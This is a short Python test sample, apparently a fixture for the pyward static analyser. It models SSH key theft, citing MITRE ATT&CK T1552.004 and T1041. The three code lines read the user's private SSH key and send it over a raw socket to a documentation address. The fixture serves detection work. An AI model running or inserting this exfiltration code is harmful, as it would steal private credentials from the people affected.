# INERT test sample for pyward's static analysis: never run it. Modelled on SSH key exfiltration over a raw socket.
# Documented: MITRE ATT&CK T1552.004, T1041
# Every address is a documentation address (RFC 5737); nothing here is functional malware.
import os, socket
key = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()
s = socket.create_connection(('192.0.2.90', 9001))
s.sendall(key)
